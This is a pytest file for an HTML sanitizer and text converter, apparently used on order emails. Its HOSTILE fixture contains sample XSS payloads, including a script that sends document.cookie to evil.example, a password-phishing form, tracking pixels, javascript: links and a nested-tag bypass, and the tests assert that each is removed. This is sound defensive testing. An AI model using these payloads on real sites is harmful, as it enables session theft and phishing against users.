from __future__ import annotations

import pytest

from evidence.sanitize import LINK_REL, html_to_text, sanitize_html

HOSTILE = """<html><head><title>Hi</title><style>p {color: red}</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://tracker.example/s.css"></head>
<body onload="steal()">
<p style="background:url(https://tracker.example/bg.png)" onclick="steal()">Your order <b>shipped</b></p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://tracker.example/open.gif" srcset="https://tracker.example/2x.gif 2x">
<a href="javascript:alert(1)">js link</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>
<a href="/relative">relative link</a>
<a href="https://www.walmart.com/orders" target="_blank" rel="opener">track</a>
<a href="mailto:support@seller.example">mail us</a>
<iframe src="https://evil.example/frame">frame fallback</iframe>
<object data="https://evil.example/x.swf">object fallback</object>
<form action="https://evil.example/phish"><input name="password"></form>
<table background="https://tracker.example/t.png"><tr><td bgcolor="red">cell</td></tr></table>
<svg><script>alert(2)</script></svg>
</body></html>"""


@pytest.fixture(scope="module")
def cleaned() -> str:
    return sanitize_html(HOSTILE)


@pytest.mark.parametrize(
    "forbidden",
    ["<script", "steal()", "onload", "onclick", "style=", "<style", "javascript:", "data:",
     "tracker.example", "evil.example", "<img", "srcset", "<iframe", "<object", "<form", "<input",
     "background", "/relative", "<svg", "document.cookie", 'rel="opener"', "<base", "<meta", "<link",
     "refresh"],
)  # fmt: skip
def test_sanitize_html_removes_active_and_remote_content(cleaned: str, forbidden: str) -> None:
    assert forbidden not in cleaned


def test_sanitize_html_keeps_formatting_and_safe_links(cleaned: str) -> None:
    assert "<b>shipped</b>" in cleaned
    assert "<td>cell</td>" in cleaned
    assert f'<a href="https://www.walmart.com/orders" rel="{LINK_REL}">track</a>' in cleaned
    assert f'<a href="mailto:support@seller.example" rel="{LINK_REL}">mail us</a>' in cleaned


def test_sanitize_html_keeps_link_text_when_url_is_dropped(cleaned: str) -> None:
    assert "js link" in cleaned and "relative link" in cleaned


def test_sanitize_html_escapes_text_that_looks_like_markup() -> None:
    assert sanitize_html("a &lt;script&gt; b") == "a &lt;script&gt; b"
    assert "<script" not in sanitize_html("<scr<script>ipt>alert(1)</script>")


def test_html_to_text_gives_readable_lines_without_markup() -> None:
    text = html_to_text(HOSTILE)
    assert "Your order shipped" in text
    assert "cell" in text and "mail us" in text
    assert "<" not in text
    assert "document.cookie" not in text and "color: red" not in text


def test_html_to_text_decodes_entities_and_breaks() -> None:
    assert html_to_text("Fish &amp; chips<br>line two<p>para</p>") == "Fish & chips\nline two\npara"


def test_empty_input_gives_empty_output() -> None:
    assert sanitize_html("") == "" and html_to_text("") == ""
